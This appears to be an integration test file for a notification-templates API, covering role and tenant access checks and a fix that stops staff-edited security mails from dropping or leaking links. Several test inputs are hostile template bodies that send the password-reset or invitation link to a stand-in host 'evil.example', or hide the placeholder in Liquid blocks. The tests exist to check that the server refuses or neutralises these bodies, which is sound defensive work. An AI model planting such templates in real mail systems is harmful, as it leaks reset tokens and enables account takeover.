import { readFileSync } from 'node:fs';
import path from 'node:path';
import { and, eq, isNull, sql } from 'drizzle-orm';
import { notificationTemplates } from '../../schema';
import { centerIdOf } from '../../testing/fixtures';
import { TEMPLATE_CATALOG } from './notification-templates.catalog';
import { createTestApp, type Credentials, type TestApp, type TestRequest } from '../../testing/test-app';

let t: TestApp;
let admin: Credentials;
let centrum: Credentials;
let zwolleCopy: string;
let apeldoornCopy: string;
let tenantDefault: string;
let roermondDefault: string;

const TEMPLATES = '/api/v1/notification_templates';
const doc = (attributes: Record<string, unknown>) => ({ data: { type: 'notification_templates', attributes } });

/** Every call on one template, each changing something if it were allowed. */
function calls(id: string): TestRequest[] {
  return [
    { url: `${TEMPLATES}/${id}` },
    { method: 'PATCH', url: `${TEMPLATES}/${id}`, body: doc({ subject: 'Overgenomen {{ vacancy }}' }) },
    { method: 'DELETE', url: `${TEMPLATES}/${id}` },
    { method: 'POST', url: `${TEMPLATES}/${id}/preview`, body: doc({ subject: 'Hoi', body: '<p>Hoi</p>' }) },
    { method: 'POST', url: `${TEMPLATES}/${id}/test` },
  ];
}

/** Every template row of a tenant as it is, to compare after refused calls. */
const snapshot = async (tenantId: string) =>
  t.database.db.select().from(notificationTemplates).where(eq(notificationTemplates.tenantId, tenantId)).orderBy(notificationTemplates.id);

async function expectRefused(credentials: Credentials | undefined, requests: TestRequest[], status: number, host?: string): Promise<void> {
  const before = [await snapshot('public'), await snapshot('roermond')];
  for (const request of requests) {
    const response = await t.request({ ...request, credentials, host });
    expect([request.method ?? 'GET', request.url, response.statusCode]).toEqual([request.method ?? 'GET', request.url, status]);
  }
  expect([await snapshot('public'), await snapshot('roermond')]).toEqual(before);
  expect(await t.mails()).toEqual([]);
}

async function copyOf(credentials: Credentials, key: string, host?: string): Promise<string> {
  const [template] = (await t.request({ url: `${TEMPLATES}?filter[key]=${key}&filter[locale]=nl`, credentials, host })).json().data;
  const copy = await t.request({ method: 'PATCH', url: `${TEMPLATES}/${template.id}`, credentials, host, body: doc({ subject: `Eigen ${key} {{ center }}` }) });
  expect(copy.json().data.attributes.scope).toBe('center');
  return copy.json().data.id;
}

beforeAll(async () => {
  t = await createTestApp();
  [admin, centrum] = await Promise.all([t.signIn('admin@public.example'), t.signIn('centrum@public.example')]);
  const apeldoornStaff = await t.signIn('centrum-apeldoorn@public.example', { host: 'apeldoorn.localhost' });
  zwolleCopy = await copyOf(centrum, 'form_submission');
  apeldoornCopy = await copyOf(apeldoornStaff, 'form_submission', 'apeldoorn.localhost');
  const [row] = await t.database.db
    .select()
    .from(notificationTemplates)
    .where(and(eq(notificationTemplates.tenantId, 'public'), isNull(notificationTemplates.volunteerCenterId), eq(notificationTemplates.key, 'digest')));
  tenantDefault = row!.id;
  const [roermond] = await t.database.db
    .select()
    .from(notificationTemplates)
    .where(and(eq(notificationTemplates.tenantId, 'roermond'), eq(notificationTemplates.key, 'digest')));
  roermondDefault = roermond!.id;
  // The copies' own mails are no concern here.
  await t.mails();
});

afterAll(async () => {
  await t.close();
});

describe('who may touch the templates', () => {
  it('asks for a session (401) before anything else', async () => {
    await expectRefused(undefined, [{ url: TEMPLATES }, ...calls(tenantDefault), ...calls(zwolleCopy)], 401);
  });

  it.each(['organisatie@public.example', 'redacteur@public.example', 'vrijwilliger@public.example'])('refuses %s (403) before any lookup', async (email) => {
    const session = await t.signIn(email);
    await expectRefused(session, [{ url: TEMPLATES }, ...calls(tenantDefault), ...calls(zwolleCopy), ...calls(roermondDefault)], 403);
  });

  it('hides another centre’s copy from a centre superuser (404), whose session does not work on another centre’s site (401)', async () => {
    await expectRefused(centrum, calls(apeldoornCopy), 404);
    await expectRefused(centrum, [{ url: TEMPLATES }, ...calls(zwolleCopy)], 401, 'apeldoorn.localhost');
  });

  it('hides another tenant’s templates from everyone, admins included (404)', async () => {
    await expectRefused(admin, calls(roermondDefault), 404);
    await expectRefused(centrum, calls(roermondDefault), 404);
    // Another tenant's default as the id to copy from: still out of sight.
    const list = (await t.request({ url: TEMPLATES, credentials: admin })).json().data as { id: string }[];
    expect(list.map((template) => template.id)).not.toContain(roermondDefault);
  });

  it('lets an admin read any centre’s copy of the tenant, and lists only the site centre’s', async () => {
    const other = await t.request({ url: `${TEMPLATES}/${apeldoornCopy}`, credentials: admin });
    expect(other.statusCode).toBe(200);
    expect(other.json().data.attributes.volunteer_center_id).toBe(await centerIdOf(t, 'public', 'apeldoorn'));
    const zwolleList = (await t.request({ url: `${TEMPLATES}?filter[key]=form_submission&filter[locale]=nl`, credentials: admin })).json().data;
    expect(zwolleList.map((template: { id: string }) => template.id)).toEqual([zwolleCopy]);
  });

  it('sends a test only to the caller’s own address', async () => {
    const sent = await t.request({ method: 'POST', url: `${TEMPLATES}/${zwolleCopy}/test`, credentials: centrum });
    expect(sent.statusCode).toBe(202);
    expect((await t.mails()).map((mail) => mail.to)).toEqual(['centrum@public.example']);
  });
});

describe('the link (or address) of a security mail is the platform’s (issue 26)', () => {
  const SILENCED = '<p>{% if false %}Je link staat hieronder.{% endif %}{% comment %}niets{% endcomment %}{% capture verstopt %}Hallo{% endcapture %}</p>';

  /** Saves a text for Zwolle's copy of a mail (Dutch), as its centre superuser. */
  async function save(key: string, attributes: Record<string, unknown>) {
    const [template] = (await t.request({ url: `${TEMPLATES}?filter[key]=${key}&filter[locale]=nl`, credentials: centrum })).json().data;
    return t.request({ method: 'PATCH', url: `${TEMPLATES}/${template.id}`, credentials: centrum, body: doc(attributes) });
  }

  /** The one mail to `to` that the call made, with every address it links to. */
  async function mailTo(to: string) {
    const mails = (await t.mails()).filter((mail) => mail.to === to);
    expect(mails).toHaveLength(1);
    const links = [...mails[0]!.html.matchAll(/href="([^"]+)"/g)].map((match) => match[1]!.replace(/&amp;/g, '&'));
    return { ...mails[0]!, links };
  }

  it.each([
    ['password_reset', '<p><a href="https://evil.example/c?u={{ link | url_encode }}">Nieuw wachtwoord</a></p>'],
    ['password_reset', '<p>{% if false %}{{ link }}{% endif %}</p>'],
    ['confirmation', '<p>{% comment %}{{ link }}{% endcomment %}</p>'],
    ['invitation', '<p>{% capture verstopt %}{{ link }}{% endcapture %}Welkom</p>'],
    ['email_change', '<p>{% if false %}{{ email }}{% endif %}</p>'],
  ])('refuses %s with %s: the placeholder is gone, the platform places it', async (key, body) => {
    const response = await save(key, { body });
    expect(response.statusCode).toBe(422);
    expect(response.json().errors[0].meta.reason).toBe('placed_placeholder');
  });

  it('mails an admin’s reset with the platform’s link below any text staff saved, and that link sets the password', async () => {
    expect((await save('password_reset', { body: `<p>Klik <a href="https://evil.example/c">hier</a>.</p>${SILENCED}`, action_text: 'Ga verder' })).statusCode).toBe(200);
    await t.mails();
    expect((await t.request({ method: 'POST', url: '/auth/password', body: { email: 'admin@public.example' } })).statusCode).toBe(200);
    const mail = await mailTo('admin@public.example');
    const platform = mail.links.filter((link) => link.includes('reset_password_token='));
    expect(platform).toEqual([platform[0], platform[0]]);
    expect(platform[0]).toMatch(/^http:\/\/localhost:3000\/auth\/reset\?reset_password_token=[\w-]+$/);
    expect(mail.links.filter((link) => link.includes('evil.example'))).toEqual(['https://evil.example/c']);
    expect(mail.text).toMatch(/\n\nGa verder: http:\/\/localhost:3000\/auth\/reset\?reset_password_token=[\w-]+$/);
    const token = new URL(platform[0]!).searchParams.get('reset_password_token');
    const reset = await t.request({ method: 'PUT', url: '/auth/password', body: { password: 'een-lang-wachtwoord', password_confirmation: 'een-lang-wachtwoord', reset_password_token: token } });
    expect(reset.statusCode).toBe(200);
  });

  it('mails the confirmation and the invitation with their links, and the e-mail change warning with the new address, whatever the text', async () => {
    for (const key of ['confirmation', 'invitation', 'email_change']) expect((await save(key, { body: SILENCED })).statusCode).toBe(200);
    await t.mails();

    const signUp = await t.request({ method: 'POST', url: '/auth', body: { email: 'noor.stil@example.nl', password: 'een-lang-wachtwoord', password_confirmation: 'een-lang-wachtwoord' } });
    expect(signUp.statusCode).toBe(200);
    const confirmation = await mailTo('noor.stil@example.nl');
    expect(confirmation.links.filter((link) => /^http:\/\/localhost:3000\/confirm\?confirmation_token=[\w-]+$/.test(link))).toHaveLength(2);
    expect(confirmation.text).toMatch(/E-mailadres bevestigen: http:\/\/localhost:3000\/confirm\?confirmation_token=[\w-]+$/);

    const invited = await t.request({
      method: 'POST',
      url: '/api/v1/users',
      credentials: centrum,
      body: { data: { type: 'users', attributes: { email: 'lid.stil@example.org', first_name: 'Lid', last_name: 'Stil', role: 'volunteer' } } },
    });
    expect(invited.statusCode).toBe(201);
    const invitation = await mailTo('lid.stil@example.org');
    expect(invitation.text).toMatch(/Wachtwoord kiezen: http:\/\/localhost:3000\/auth\/reset\?reset_password_token=[\w-]+$/);

    const redacteur = await t.signIn('redacteur@public.example');
    const changed = await t.request({
      method: 'PATCH',
      url: '/api/v1/current_user',
      credentials: redacteur,
      body: { data: { type: 'users', attributes: { email: 'daan.stil@example.org', current_password: 'demo-wachtwoord-2026' } } },
    });
    expect(changed.statusCode).toBe(200);
    const warning = (await t.mails()).find((mail) => mail.to === 'redacteur@public.example');
    expect(warning?.text).toContain('Het nieuwe e-mailadres: daan.stil@example.org');
    expect(warning?.html).toContain('<strong>daan.stil@example.org</strong>');
  });

  it('rewrote stored texts from before: the built-in ones to the new, edited ones without their link, so every mail still renders and carries it', async () => {
    const migration = readFileSync(path.join(__dirname, '../../../migrations/0021_template_action_text.sql'), 'utf8');
    const updates = migration.split('--> statement-breakpoint').filter((statement) => /^\s*(?:--[^\n]*\n\s*)*UPDATE/.test(statement));
    const oldResetDefault = /"key" = 'password_reset' AND "locale" = 'nl' AND "body" = '((?:[^']|'')*)';/.exec(migration)![1]!.replace(/''/g, "'");
    const before: [string, string, string][] = [
      ['password_reset', 'nl', oldResetDefault],
      ['confirmation', 'nl', '<p>Klik <a href="{{ link }}">{{ link }}</a></p><p>{{ link | url_encode }}</p><p>Tot ziens.</p>'],
      ['invitation', 'en', '<p>Go: <a href="https://evil.example/?u={{ link | url_encode }}"><strong>here</strong></a>, or <a href="https://example.nl">there</a>.</p>'],
      ['email_change', 'nl', '<p>Naar {{ email }}.</p>'],
    ];
    for (const [key, locale, body] of before) {
      await t.database.db.update(notificationTemplates).set({ body }).where(and(eq(notificationTemplates.tenantId, 'public'), eq(notificationTemplates.key, key as 'confirmation'), eq(notificationTemplates.locale, locale as 'nl')));
    }
    for (const statement of updates) await t.database.db.execute(sql.raw(statement));
    const bodies = async (key: string, locale: string) =>
      new Set((await t.database.db.select().from(notificationTemplates).where(and(eq(notificationTemplates.tenantId, 'public'), eq(notificationTemplates.key, key as 'confirmation'), eq(notificationTemplates.locale, locale as 'nl')))).map((row) => row.body));
    expect(await bodies('password_reset', 'nl')).toEqual(new Set([TEMPLATE_CATALOG.password_reset.body.nl]));
    expect(await bodies('confirmation', 'nl')).toEqual(new Set(['<p>Klik </p><p>Tot ziens.</p>']));
    expect(await bodies('invitation', 'en')).toEqual(new Set(['<p>Go: , or <a href="https://example.nl">there</a>.</p>']));
    expect(await bodies('email_change', 'nl')).toEqual(new Set(['<p>Naar het adres hieronder.</p>']));
    // Each saves again as it is (nothing names the link any more), and previews with the platform's button.
    for (const [key, locale] of before) {
      const [template] = (await t.request({ url: `${TEMPLATES}?filter[key]=${key}&filter[locale]=${locale}`, credentials: centrum })).json().data;
      const preview = await t.request({ method: 'POST', url: `${TEMPLATES}/${template.id}/preview`, credentials: centrum, body: doc({ subject: template.attributes.subject, body: template.attributes.body }) });
      expect([key, preview.statusCode]).toEqual([key, 200]);
      expect(preview.json().data.attributes.text).toMatch(key === 'email_change' ? /\n\nHet nieuwe e-mailadres: sanne\.nieuw@example\.nl$/ : /: https:\/\/www\.example\.nl\/voorbeeld$/);
    }
  });
});
